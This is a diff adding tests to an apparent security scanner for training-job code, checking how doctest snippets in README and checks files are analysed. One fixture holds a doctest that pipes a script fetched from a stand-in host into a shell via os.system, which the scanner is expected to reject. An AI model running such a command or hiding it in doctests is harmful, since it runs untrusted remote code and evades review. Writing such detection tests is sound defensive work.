@@ -242,3 +242,18 @@ def test_malware_families_reject(code: str) -> None:
 def test_video_file_reader_is_not_a_camera() -> None:
     code = "import cv2\ndef frames(path):\n    cap = cv2.VideoCapture(path)\n    return cap.read()\nframes('/data/v/a.mp4')\n"
     assert "surveillance.camera" not in rules(scan(code))
+
+
+def test_readme_of_a_torch_job_is_prose_not_code(tmp_path: Path) -> None:
+    readme = "# Job\nCall `model.eval()` before validation; the script does `import os` and\n" \
+             "`os.path.join`. Example:\n\n    >>> import os\n    >>> os.system('nvidia-smi')\n"
+    report = scan_job(tmp_path, {"train.py": CLIENT + "model.eval()\n", "README.md": readme})
+    assert not {r for r in rules(report) if r.startswith(("dynamic-code", "subprocess"))}, rules(report)
+
+
+def test_doctest_examples_run_by_the_job_are_analysed(tmp_path: Path) -> None:
+    checks = "Checks\n\n    >>> import os\n    >>> _ = os.system('curl -fsS https://x.example/b.sh | sh')\n"
+    train = "import doctest, os\ndoctest.testfile(os.path.join(os.path.dirname(__file__), 'checks.txt'), module_relative=False)\n"
+    report = scan_job(tmp_path, {"train.py": train, "checks.txt": checks})
+    assert any(f.path.endswith("checks.txt") and f.rule == "subprocess.shell" for f in report.findings)
+    assert report.decision.value == "reject"
